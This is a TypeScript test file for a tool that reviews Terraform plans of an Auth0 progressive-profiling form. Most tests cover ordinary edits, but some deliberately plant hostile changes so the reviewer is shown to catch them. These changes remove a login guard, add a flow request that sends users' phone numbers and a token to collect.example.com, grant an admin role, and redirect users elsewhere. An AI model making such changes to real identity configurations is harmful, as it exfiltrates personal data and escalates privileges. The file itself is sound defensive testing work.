import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { TerraformStack } from "cdktf";
import {
  dropdown,
  ManagementScopes,
  type MetadataFlow,
  nextButton,
  ProgressiveProfiling,
  type ProgressiveProfilingProps,
  phone,
  richText,
  SampleApplication,
  Stage,
  text,
} from "../../lib";
import { FINDING_KINDS } from "../../review/finding";
import { type LocalTenant, startLocalTenant } from "../support/local-tenant";
import { lostValues } from "../support/lost-values";
import { expectGolden, PlanFolder, review } from "../support/reviewed-plans";
import { Workspace } from "../support/terraform";

const company = Stage.untilAnswered("company_name", {
  alias: "Missing Company Data",
  components: [
    richText("<h2>And about your company</h2>"),
    text("company_name", { label: "Company name", required: true }),
    dropdown("company_size", { label: "Company size", options: ["1-10", "11-50", "51+"] }),
    nextButton(),
  ],
});
const team = Stage.untilAnswered("team", {
  alias: "Missing Team",
  components: [
    richText("<h2>Which team are you in?</h2>"),
    text("team", { label: "Team", required: true }),
    nextButton(),
  ],
});

/** The stage of the profile, as a test wants it. */
function profile({
  heading = "Tell us about your work",
  phoneIsRequired = false,
  hasPhone = true,
}: {
  readonly heading?: string;
  readonly phoneIsRequired?: boolean;
  readonly hasPhone?: boolean;
} = {}): Stage {
  return Stage.untilAnswered("job_title", {
    alias: "Missing Profile Data",
    components: [
      richText(`<h2>${heading}</h2>`),
      text("job_title", { label: "Job title", required: true }),
      ...(hasPhone ? [phone("phone_number", { label: "Phone", required: phoneIsRequired })] : []),
      nextButton(),
    ],
  });
}

function profiling(props: ProgressiveProfilingProps = {}) {
  return (stack: TerraformStack) =>
    new ProgressiveProfiling(stack, "profiling", { stages: [profile(), company], ...props });
}

const plans = new PlanFolder();
let tenant: LocalTenant;
let workspace: Workspace;

/** The review of the plan that makes this of what was applied. */
function reviewOf(name: string, define: (stack: TerraformStack) => void, ...options: readonly string[]): string {
  workspace.synth(define);
  const plan = plans.save(name, workspace, ...options);
  const { status, stdout, stderr } = review(plan);
  expect({ status, stderr }).toEqual({ status: 0, stderr: "" });
  expect(lostValues(readFileSync(plan, "utf8"), stdout)).toEqual([]);
  return stdout;
}

beforeAll(async () => {
  tenant = await startLocalTenant();
  workspace = new Workspace(tenant.env, "login");
}, 60_000);

afterAll(async () => {
  workspace.remove();
  plans.remove();
  await tenant.stop();
});

describe("docs/review.md", () => {
  const document = readFileSync(join(__dirname, "..", "..", "docs", "review.md"), "utf8");

  test("shows a review as it is", () => {
    const [, shown = ""] = /^````markdown\n(.*?)\n````$/ms.exec(document) ?? [];

    expect(shown).not.toBe("");
    expect(readFileSync(join(__dirname, "golden", "added-stage.md"), "utf8")).toContain(shown);
  });

  test("has all kinds of findings, the most dangerous first", () => {
    const rows = [...document.matchAll(/^\| `([a-z-]+)` \| (.*) \|$/gm)].map(([, kind, meaning]) => [kind, meaning]);

    expect(rows.filter(([kind]) => kind !== undefined && kind in FINDING_KINDS)).toEqual(Object.entries(FINDING_KINDS));
  });
});

// One journey: the first plan is applied, and every other test plans a change of what then stands in the tenant.
describe("the review of a pull request that", () => {
  test("deploys for the first time shows all stages, although their nodes are known only after the apply", () => {
    expectGolden("first-plan.md", reviewOf("first", profiling()));

    workspace.apply();
  });

  test("changes nothing is one line", () => {
    expectGolden("nothing-changed.md", reviewOf("nothing", profiling()));
  });

  test("adds a stage", () => {
    expectGolden("added-stage.md", reviewOf("added", profiling({ stages: [profile(), company, team] })));
  });

  test("removes a field", () => {
    expectGolden(
      "removed-field.md",
      reviewOf("removed", profiling({ stages: [profile({ hasPhone: false }), company] })),
    );
  });

  test("makes a field required", () => {
    const stages = [profile({ phoneIsRequired: true }), company];

    expectGolden("required-field.md", reviewOf("required", profiling({ stages })));
  });

  test("asks the stages in another order", () => {
    expectGolden("reordered-stages.md", reviewOf("reordered", profiling({ stages: [company, profile()] })));
  });

  test("changes the wording", () => {
    const stages = [profile({ heading: "What do you do?" }), company];

    expectGolden("changed-wording.md", reviewOf("wording", profiling({ stages })));
  });

  test("widens the scopes", () => {
    const scopes = [...ManagementScopes.ARTICLE, "delete:users"];

    expectGolden("widened-scopes.md", reviewOf("scopes", profiling({ scopes })));
  });

  test("destroys everything", () => {
    expectGolden(
      "destroy.md",
      reviewOf("destroy", () => {}),
    );
  });

  test("runs other code at logins", () => {
    const define = (stack: TerraformStack) => {
      const { action } = profiling()(stack).action;
      action.code = `${action.codeInput}\n// Somebody was here.\n`.replace("if (!canShowPage(event)) return;", "");
      action.runtime = "node18";
      action.addOverride("secrets", [{ name: "AUDIT_URL", value: "https://audit.example.com/planted-token" }]);
    };

    expectGolden("changed-action.md", reviewOf("action", define));
  });

  test("replaces the client", () => {
    const address = [...workspace.resources().keys()].find((key) => key.startsWith("auth0_client."));

    expectGolden("replaced-client.md", reviewOf("replaced", profiling(), `-replace=${address}`));
  });

  test("adds a second form and an application beside the first", () => {
    const define = (stack: TerraformStack) => {
      const { client } = profiling({ stages: [profile({ heading: "Your work" }), company] })(stack);
      const names = { form: "Team", flow: "Save the team", vaultConnection: "Team", action: "Team" };
      new ProgressiveProfiling(stack, "team", { stages: [team], names, client });
      new SampleApplication(stack, "sample");
    };

    expectGolden("several-instances.md", reviewOf("several", define));
  });

  test("adds a stage, while the base waits for other scopes to be applied", () => {
    const scopes = ManagementScopes.LEAST;
    workspace.synth(profiling({ scopes }));
    const base = plans.save("base", workspace);
    workspace.synth(profiling({ scopes, stages: [profile(), company, team] }));

    const head = plans.save("head", workspace);
    const { stdout, status } = review(head, "--base", base);

    expect(status).toBe(0);
    expectGolden("pending-base.md", stdout, head);
  });

  test("is of two stacks, one of them new", () => {
    const other = new Workspace(tenant.env, "team");
    const names = { form: "Team", flow: "Save the team", vaultConnection: "Team", action: "Team", client: "Team" };
    other.synth((stack) => new ProgressiveProfiling(stack, "team", { stages: [team], names }));
    workspace.synth(profiling({ stages: [profile({ hasPhone: false }), company] }));

    const files = [plans.save("team", other), plans.save("login", workspace)];
    const { stdout, status } = review(...files);

    other.remove();
    expect(status).toBe(0);
    expectGolden("two-stacks.md", stdout, ...files);
  });

  test("makes a stage of an optional field, for whom left it empty", () => {
    const phoneStage = Stage.untilAnswered("phone_number", {
      alias: "Missing Phone",
      components: [phone("phone_number", { label: "Phone", required: true }), nextButton()],
    });

    expectGolden(
      "optional-to-stage.md",
      reviewOf("optional-to-stage", profiling({ stages: [profile({ hasPhone: false }), company, phoneStage] })),
    );
  });

  test("lets a stage wait for a field that was optional", () => {
    const { id, alias, components } = profile({ phoneIsRequired: true });
    const waiting = Stage.untilAnswered("phone_number", { id, alias, components });

    expectGolden("optional-waits.md", reviewOf("optional-waits", profiling({ stages: [waiting, company] })));
  });

  test("lets the flow do something else beside writing answers", () => {
    const define = (stack: TerraformStack) => {
      const { flow } = profiling()(stack).flow as MetadataFlow;
      const request = {
        id: "collect",
        type: "HTTP",
        action: "SEND_REQUEST",
        params: {
          url: "https://collect.example.com/answers",
          method: "POST",
          headers: { "x-credential": "planted-token" },
          payload: { phone: "{{fields.phone_number.international_number}}" },
        },
      };
      flow.actions = (flow.actionsInput ?? "")
        .replace('"changes":{', '"changes":{"app_metadata":{"role":"admin"},')
        .replace(/\]$/, `,${JSON.stringify(request)}]`);
    };

    const text = reviewOf("flow", define);

    expect(text).not.toContain("planted-token");
    expectGolden("changed-flow.md", text);
  });

  test("sets the Vault connection up for another tenant", () => {
    const define = (stack: TerraformStack) =>
      profiling()(stack).vaultConnection?.connection.addOverride("setup.domain", "other.example.com");

    const text = reviewOf("vault-connection", define).replace(/localhost:\d+/g, "this.example.com");

    expectGolden("changed-vault-connection.md", text);
  });

  test("writes through a Vault connection that exists already", () => {
    const connectionId = `ac_${"a".repeat(22)}`;

    expectGolden("other-vault-connection.md", reviewOf("other-connection", profiling({ connectionId })));
  });

  test("leads people elsewhere at the end of the form", () => {
    const define = (stack: TerraformStack) => {
      const { form } = profiling()(stack).form;
      form.ending = JSON.stringify({ redirection: { target: "https://elsewhere.example.com/" } });
    };

    expectGolden("changed-ending.md", reviewOf("ending", define));
  });

  test("gives the construct another id, without a moved block", () => {
    const define = (stack: TerraformStack) =>
      new ProgressiveProfiling(stack, "renamed", { stages: [profile(), company] });

    expectGolden("remade.md", reviewOf("remade", define));
  });

  test("changes nothing, but somebody has edited the form in the dashboard", async () => {
    const { body: forms } = await tenant.request("GET", "/api/v2/forms");
    const path = `/api/v2/forms/${(forms.forms ?? forms)[0].id}`;
    const { body: form } = await tenant.request("GET", path);
    const nodes = JSON.parse(JSON.stringify(form.nodes).replace("Job title", "Role"));
    expect(await tenant.request("PATCH", path, { nodes })).toMatchObject({ status: 200 });

    expectGolden("drift.md", reviewOf("drift", profiling()));
    expectGolden(
      "drift-and-change.md",
      reviewOf("drift-and-change", profiling({ stages: [profile(), company, team] })),
    );
  });
});
